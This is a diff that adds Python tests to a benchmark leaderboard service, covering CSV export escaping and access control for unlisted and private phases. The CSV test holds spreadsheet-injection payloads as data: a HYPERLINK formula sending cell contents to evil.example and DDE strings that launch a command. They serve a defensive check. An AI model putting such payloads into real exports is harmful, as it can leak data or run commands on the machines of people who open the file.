@@ -343,3 +343,107 @@ def test_orphaned_uploads_are_swept_at_server_start(tokens, tmp_path):
         wait_for(lambda: "swept 5 orphaned file(s)" in proc.text(), 10, "the log line")
     finally:
         proc.stop()
+
+
+# --- issue 36: what participants see (warnings of a hidden GT, CSV cells, unlisted phases) ---
+
+HIDDEN_PHASES = """
+title: hidden phases
+phases:
+  - name: hidden
+    gt: {gt}
+    visibility: unlisted
+  - name: secret
+    gt: {gt}
+    visibility: private
+"""
+
+
+def test_board_csv_cells_that_a_spreadsheet_would_run_are_quoted():
+    """OWASP's CSV injection advice: text starting with = + - @ tab or CR behind a single
+    quote; other text and numbers (a negative delta) as they are."""
+    import csv
+    import io
+
+    from sgdask.batch.leaderboard_html import board_csv
+
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+             "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+             "plain model", "a=b"]
+    text = board_csv(["model", "R@50", "Δ multimpo"], [[n, 0.5, -0.25] for n in names])
+    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert header == ["model", "R@50", "Δ multimpo"]
+    assert [r[0] for r in rows] == ["'" + n for n in names[:6]] + names[6:]
+    assert all(r[1:] == ["0.5", "-0.25"] for r in rows)
+
+
+def test_unlisted_is_a_capability_url_and_private_warnings_say_counts(tiny, client, tokens,
+                                                                      tmp_path):
+    """An unlisted phase (docs/security.md: capability URLs): its board is refused to
+    participants and anonymous readers, a team's listing holds only its own submissions,
+    and a submission's status, rank and report are read by whoever holds its id (a wrong id
+    is 404; a hidden submission is 404 to others). A private phase's validation warning
+    counts the GT images without prediction and names none of them."""
+    from sgdask.service.app import ServiceConfig
+    from sgdask.service.benchmark import load_benchmark
+    from sgdask.service.queue import submission
+    from sgdask.service.worker import Worker, WorkerConfig
+    from tests.test_challenge import serving
+    from tests.test_service_worker_hostile import queued
+
+    path, teams = tokens
+    benchmark = tmp_path / "challenge.yaml"
+    benchmark.write_text(HIDDEN_PHASES.format(gt=tiny.gt))
+    registry, out = str(tmp_path / "registry"), str(tmp_path / "board")
+    service = ServiceConfig(registry, out, tokens=str(path),
+                            benchmark=load_benchmark(str(benchmark), registry, out))
+    hidden, secret = service.benchmark.phases
+
+    def worker(phase) -> Worker:
+        return Worker(WorkerConfig.beside(service, phase, 0.2, 1, None), client,
+                      log=lambda _: None)
+
+    missing: list[str] = []
+
+    def dropped(doc):
+        missing.extend(img["id"] for img in doc["images"][:3])
+        del doc["images"][:3]
+    partial = rewrite_zip(tiny.paths.submission_zip, tmp_path / "partial.zip", dropped)
+    for phase in (secret, hidden):
+        sid = queued(Registry(phase.registry), partial.read_bytes(), "partial.zip")
+        worker(phase).prepare_batch()
+        (warning,) = submission(Registry(phase.registry), sid).latest("warnings")
+        assert "3 of 10 evaluated GT images have no prediction" in warning
+        named = [i for i in missing if i in warning]
+        assert named == ([] if phase is secret else missing), warning
+
+    sid = queued(Registry(hidden.registry), tiny.variant(0).read_bytes(), "model.zip")
+    hidden_worker = worker(hidden)
+    for _ in range(4):
+        hidden_worker.cycle()
+        if submission(Registry(hidden.registry), sid).status == "ranked":
+            break
+    assert submission(Registry(hidden.registry), sid).status == "ranked"
+
+    with serving(service) as base:
+        get = lambda url, token=None: httpx.get(base + url, headers=auth(token),  # noqa: E731
+                                                timeout=30)
+        for token in (None, teams["team-a"], teams["team-b"]):
+            assert get("/api/leaderboard?phase=hidden", token).status_code == 404
+            assert get("/boards/hidden/public.csv", token).status_code == 404
+        status = get(f"/api/submissions/{sid}")
+        assert status.status_code == 200
+        assert status.json()["rank"] == 1 and status.json()["metrics"]
+        assert get(f"/reports/{sid}").status_code == 200
+        wrong = sid[:-1] + ("0" if sid[-1] != "0" else "1")
+        assert get(f"/api/submissions/{wrong}").status_code == 404
+        assert get(f"/reports/{wrong}").status_code == 404
+        listed = get("/api/submissions", teams["team-b"]).json()
+        assert sid not in [s["id"] for s in listed]
+        assert sid in [s["id"] for s in get("/api/submissions", teams["team-a"]).json()]
+        hide = httpx.post(f"{base}/api/submissions/{sid}/visibility", json={"hidden": True},
+                          headers=auth(teams["team-a"]), timeout=30)
+        assert hide.status_code == 200
+        assert get(f"/api/submissions/{sid}").status_code == 404
+        assert get(f"/reports/{sid}", teams["team-b"]).status_code == 404
+        assert get(f"/api/submissions/{sid}", teams["team-a"]).status_code == 200
